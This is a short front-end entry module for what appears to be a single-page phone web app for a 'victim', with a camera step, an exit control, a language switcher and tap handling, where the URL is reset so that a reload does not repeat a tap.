// The victim's page from the camera to the end: one page that never reloads by itself.
import { startSendingOnce } from "#kit/sending";

import { startExit } from "./exit";
import { startLanguages } from "./languages";
import { PhonePage } from "./page";
import { readPageData } from "./state";
import { actOnTaps } from "./tapped";

const data = readPageData();
// It is the answer to her tap on the first page: a reload asks for this page, and does not tap again.
if (location.pathname !== data.urls.page) history.replaceState(null, "", data.urls.page);
startSendingOnce();
startExit();
startLanguages(data.urls.page);
new PhonePage(data).start();
actOnTaps();
